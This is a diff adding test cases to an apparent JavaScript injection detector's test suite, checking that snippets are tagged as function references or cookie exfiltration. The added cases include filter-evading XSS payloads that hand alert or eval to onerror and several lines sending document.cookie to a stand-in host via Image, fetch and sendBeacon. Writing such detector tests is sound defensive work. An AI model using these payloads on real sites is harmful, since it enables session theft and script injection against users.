@@ -89,6 +89,12 @@ describe("js check", () => {
     expect(top("[1].find(alert)")).toBeGreaterThan(top("raise the (alert) level"));
     expect(top("[1].find(alert)")).toBeLessThan(0.8);
   });
+  test("a dialog handed to the error handler is found in a block as after a statement", () => {
+    for (const v of ["onerror=alert;throw 1", "{onerror=alert}throw 1337", "{onerror=eval}throw'=alert\\x281\\x29'"]) expect([v, constructs(v)]).toEqual([v, expect.arrayContaining(["function-reference"])]);
+    expect(top("{onerror=alert}throw 1337")).toBe(top("onerror=alert;throw 1"));
+    // A module's import or export list names them without handing them anywhere.
+    for (const v of ['import { input, confirm } from "@inquirer/prompts"', "export { prompt, confirm }"]) expect([v, constructs(v)]).toEqual([v, []]);
+  });
   test("long chains of calls stay linear", () => {
     expect(constructs("f()".repeat(200_000) + ";';alert(1)//")).toContain("dialog-call");
   });
@@ -101,6 +107,11 @@ describe("js check", () => {
       "fetch(`https://e.example/${document.cookie}`)",
       "img.src = u + document.cookie",
       "$.post('/x', {c: document.cookie})",
+      // Kept in a name first, then sent.
+      'c=document.cookie;new Image().src="//e.example/?"+c',
+      "var x = document.cookie; fetch(`//e.example/?c=${x}`)",
+      "let k=document.cookie;navigator.sendBeacon('//e.example',k)",
+      "x=document.cookie;fetch(`//e.example/?c=${ x }`)",
     ];
     for (const v of sent) {
       expect([v, constructs(v)]).toEqual([v, expect.arrayContaining(["cookie-exfiltration"])]);
@@ -113,6 +124,9 @@ describe("js check", () => {
       "if (!document.cookie) location.href = '/login';",
       "var open = true, c = document.cookie",
       "console.log(`cookies? ${document.cookie}`)",
+      // Kept in a name that is only read, or whose namesake member is sent.
+      "var c = document.cookie; if (c) location.href = '/home'",
+      "c = document.cookie; fetch('/log?c=' + o.c)",
     ];
     for (const v of kept) expect([v, constructs(v)]).toEqual([v, expect.not.arrayContaining(["cookie-exfiltration"])]);
   });
